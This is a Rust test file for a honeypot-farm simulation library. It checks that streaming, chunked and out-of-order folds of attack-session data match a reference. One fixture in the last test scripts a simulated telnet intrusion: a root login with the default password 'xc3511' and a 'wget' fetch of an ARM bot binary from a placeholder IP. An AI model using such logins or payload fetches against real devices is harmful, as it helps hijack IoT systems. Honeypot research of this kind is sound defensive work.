//! The analysis fold against the independent reference for the paper's
//! definitions (`hf_testkit::reference`), on every way rows reach it:
//!
//! * `Simulation::run_fold` (rows retired day by day) at scales {0.001,
//!   0.01}, measured against the reference over the records of the same
//!   run kept whole;
//! * `FoldOutput::from_snapshot_stream` over a snapshot cut into 97-row
//!   chunks, most of them ending mid-day;
//! * a proptest that cuts the rows anywhere — mid-day included — into
//!   `StreamingFold::ingest_rows` calls;
//! * the eight `.hfs` scenario replays, in a store out of day order.
//!
//! Run against run stays only where no definition is involved: a row-free
//! fold keeps its run's pools, plan and artifacts; a reload reproduces it.

use std::path::Path;
use std::sync::OnceLock;

use honeyfarm::cluster::{extract, features_from_snapshot_stream, FeatureMatrix};
use honeyfarm::core::StreamingFold;
use honeyfarm::prelude::*;
use honeyfarm::testkit::{
    diff_datasets, diff_reference, diff_sim_outputs, diff_tagdbs, measure_run, project,
    record_world, Measures, Scenario,
};
use proptest::prelude::*;

/// `run_fold` at the given config against the reference.
fn assert_fold_matches(scale: f64, days: u32) {
    let config = SimConfig {
        seed: 0x57e4,
        scale: Scale::of(scale),
        window: StudyWindow::first_days(days),
        ..SimConfig::default()
    };
    let out = Simulation::run(config.clone());
    let fold = Simulation::run_fold(config.clone());
    assert!(
        fold.dataset.sessions.is_empty(),
        "fold mode must retire every row"
    );
    assert_eq!(out.n_clients, fold.n_clients, "n_clients");
    diff_tagdbs("materialized", &out.tags, "fold", &fold.tags).assert_identical();

    let features = extract(&out.dataset).matrix();
    diff_reference(
        &measure_run(&config, &out),
        &project(&fold.dataset, &fold.aggregates, &features),
    )
    .assert_identical();

    // Retiring rows day by day keeps the pools, the plan and the artifact
    // store (first_seen / last_seen / occurrences) of the kept run.
    let mut rowless = out;
    rowless.dataset.sessions.retire_rows();
    diff_datasets("materialized", &rowless.dataset, "fold", &fold.dataset).assert_identical();
}

#[test]
fn fold_matches_materialized_scale_0_001() {
    assert_fold_matches(0.001, 30);
}

#[test]
fn fold_matches_materialized_scale_0_01() {
    assert_fold_matches(0.01, 8);
}

/// A snapshot in 97-row chunks — many chunks, most ending mid-day, so the
/// reader's overlapped arm runs — streams into both folds, which must
/// match the reference over the simulated records. The chunked write →
/// read round trip itself reproduces the run.
#[test]
fn snapshot_stream_fold_matches_materialized_load() {
    let config = SimConfig::test(10);
    let out = Simulation::run(config.clone());
    let mut bytes = Vec::new();
    out.to_snapshot(&config)
        .write_to_chunked(&mut bytes, 97)
        .expect("write snapshot");

    let materialized = SimOutput::from_snapshot(
        Snapshot::read_from(&mut bytes.as_slice()).expect("materialized load"),
    );
    diff_sim_outputs("simulated", &out, "reloaded", &materialized).assert_identical();

    let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("streaming load");
    let (_, features) = features_from_snapshot_stream(bytes.as_slice()).expect("feature fold");
    assert_eq!(out.n_clients, fold.n_clients);
    diff_tagdbs("simulated", &out.tags, "streamed", &fold.tags).assert_identical();
    diff_reference(
        &measure_run(&config, &out),
        &project(&fold.dataset, &fold.aggregates, &features.matrix()),
    )
    .assert_identical();

    // The artifact store replays identically from the chunked stream.
    let mut rowless = out;
    rowless.dataset.sessions.retire_rows();
    diff_datasets("simulated", &rowless.dataset, "streamed", &fold.dataset).assert_identical();
}

/// Shared fixture for the partition property: one run's reference
/// measures, its feature matrix, and the run.
fn partition_fixture() -> &'static (Measures, FeatureMatrix, SimOutput) {
    static FIXTURE: OnceLock<(Measures, FeatureMatrix, SimOutput)> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let out = Simulation::run(SimConfig::test(12));
        let features = extract(&out.dataset).matrix();
        (measure_run(&SimConfig::test(12), &out), features, out)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Cut the rows at arbitrary row indices and fold each piece with its
    /// own `ingest_rows` call: the result matches the reference. Cuts come
    /// from every row index, so they fall mid-day the way 64 Ki-row
    /// snapshot chunk boundaries do, and every partition has at least one
    /// such cut.
    #[test]
    fn day_window_partitions_assemble_identically(
        mut cuts in prop::collection::vec(1..partition_fixture().2.dataset.len(), 1..16)
    ) {
        let (want, features, out) = partition_fixture();
        let store = &out.dataset.sessions;
        let rows = store.rows();
        cuts.sort_unstable();
        cuts.dedup();
        prop_assert!(
            cuts.iter().any(|&c| store.view(c - 1).day() == store.view(c).day()),
            "no cut falls inside a day: {cuts:?}"
        );

        let mut fold = StreamingFold::new(out.dataset.plan.len());
        let mut start = 0;
        for end in cuts.into_iter().chain([rows.len()]) {
            fold.ingest_rows(store, &out.dataset.plan, &rows[start..end]);
            start = end;
        }
        let diff = diff_reference(want, &project(&out.dataset, &fold.finish(), features));
        prop_assert!(diff.is_identical(), "{}", diff.render());
    }
}

/// Both folds over a store of `records` collected in the given order
/// match the reference.
fn assert_collected_matches(records: &[SessionRecord]) -> Dataset {
    let world = record_world();
    let mut collector = Collector::new(&world, FarmPlan::paper());
    collector.ingest_batch(records);
    let dataset = collector.finish();
    diff_reference(
        &Measures::of(records, &world, &dataset.plan),
        &project(
            &dataset,
            &Aggregates::compute(&dataset),
            &extract(&dataset).matrix(),
        ),
    )
    .assert_identical();
    dataset
}

/// No sessions at all, the eight `.hfs` scenario replays, and four
/// sessions that differ only in start and honeypot fold like the reference,
/// whether their store is in day order or not. The repeated client, credential and download make
/// each out-of-order mistake visible (first sightings, daily unique
/// clients, distinct active days); the last session starts first on its
/// day but is collected last, so the first sighting must follow start
/// times, not collection order.
#[test]
fn unordered_store_folds_as_if_ingested_in_day_order() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
    let mut records: Vec<SessionRecord> = (Scenario::paths_in(&dir).iter())
        .map(|p| Scenario::load(p).expect("scenario").replay())
        .collect();
    assert_eq!(records.len(), 8, "the eight scenarios");
    for (day, secs, honeypot) in [(3, 43200, 13), (1, 43200, 40), (3, 43200, 7), (1, 3600, 60)] {
        let text = format!(
            "name day{day}\nprotocol telnet\nhoneypot {honeypot}\nclient 198.51.100.66\n\
             start {day} {secs}\nlogin root xc3511\ncmd wget http://198.51.100.9/bins/x.arm7\n\
             transfer 20\nclose\n"
        );
        records.push(Scenario::parse(&text).expect("scenario").replay());
    }

    assert_collected_matches(&[]);
    let unordered = assert_collected_matches(&records);
    assert!(!unordered.sessions.is_day_ordered());
    records.sort_by_key(|r| r.start.day());
    let ordered = assert_collected_matches(&records);
    assert!(ordered.sessions.is_day_ordered());
}
